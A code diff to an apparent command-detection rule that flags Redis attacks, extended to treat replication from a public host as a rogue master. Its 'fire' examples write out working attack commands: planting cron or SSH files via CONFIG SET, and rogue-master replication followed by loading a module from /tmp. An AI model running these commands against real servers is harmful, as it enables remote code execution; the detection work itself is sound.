@@ -1,7 +1,7 @@
 import { ruleAnalyzer, hasArg, hasShortFlag, operands, type AnalysisInput, type Rule } from '../rule.js';
 import type { SimpleCommand } from '../shell/types.js';
 import { canonicalPath, classifyPath, hiddenInTemp, inTemp, isStagingPath } from '../knowledge/paths.js';
-import { destinationOf, EXFIL_KINDS } from '../knowledge/hosts.js';
+import { classifyHost, destinationOf, EXFIL_KINDS } from '../knowledge/hosts.js';
 import { powershellCradle } from './command_and_control.js';
 
 /** System directories a planted binary or config takes effect from. */
@@ -585,11 +585,13 @@ export const RULES: readonly Rule[] = [
         const dir = /config\s+set\s+(?:dir|dbfilename)\b/i.test(text) && /\/(?:etc\/cron|var\/spool\/cron|root\/\.ssh|\.ssh)|authorized_keys|crontabs?\b/i.test(text);
         if (dir || /\bsystem\.exec\b/i.test(text)) out.push(c.argv.join(' ').slice(0, 200));
       }
-      // replication from a rogue master, then its module loaded, may take two commands
-      if (/\b(?:slaveof|replicaof)\s+\S+/i.test(all) && /module\s+load/i.test(all)) out.push(all.trim().slice(0, 200));
+      // replication from a rogue master, then its module loaded, may take two commands; a master at a public
+      // address or a tunnel is that rogue master even before the module comes
+      const master = /\b(?:slaveof|replicaof)\s+(\S+)/i.exec(all);
+      if (master && (/module\s+load/i.test(all) || EXFIL_KINDS.has(classifyHost(master[1]!)))) out.push(all.trim().slice(0, 200));
       return out;
     },
-    examples: { fire: [`echo -e 'CONFIG SET dir /etc/cron.d\\r\\nCONFIG SET dbfilename sync\\r\\nSAVE\\r\\n' | nc -w 3 10.0.0.12 6379`, 'redis-cli -h 10.0.0.12 config set dir /root/.ssh', 'redis-cli -h 10.0.0.12 SLAVEOF 45.9.148.71 6379 && redis-cli -h 10.0.0.12 MODULE LOAD /tmp/exp_lin.so'], quiet: ['redis-cli -h localhost ping', 'redis-cli config set maxmemory 256mb', 'redis-cli --scan --pattern "session:*"'] },
+    examples: { fire: [`echo -e 'CONFIG SET dir /etc/cron.d\\r\\nCONFIG SET dbfilename sync\\r\\nSAVE\\r\\n' | nc -w 3 10.0.0.12 6379`, 'redis-cli -h 10.0.0.12 config set dir /root/.ssh', 'redis-cli -h 10.0.0.12 SLAVEOF 45.9.148.71 6379 && redis-cli -h 10.0.0.12 MODULE LOAD /tmp/exp_lin.so', 'redis-cli -h 10.0.4.12 REPLICAOF 203.0.113.7 6379'], quiet: ['redis-cli -h localhost ping', 'redis-cli -h redis-replica-1 REPLICAOF redis-primary.internal 6379', 'redis-cli config set maxmemory 256mb', 'redis-cli --scan --pattern "session:*"'] },
   },
 ];
 
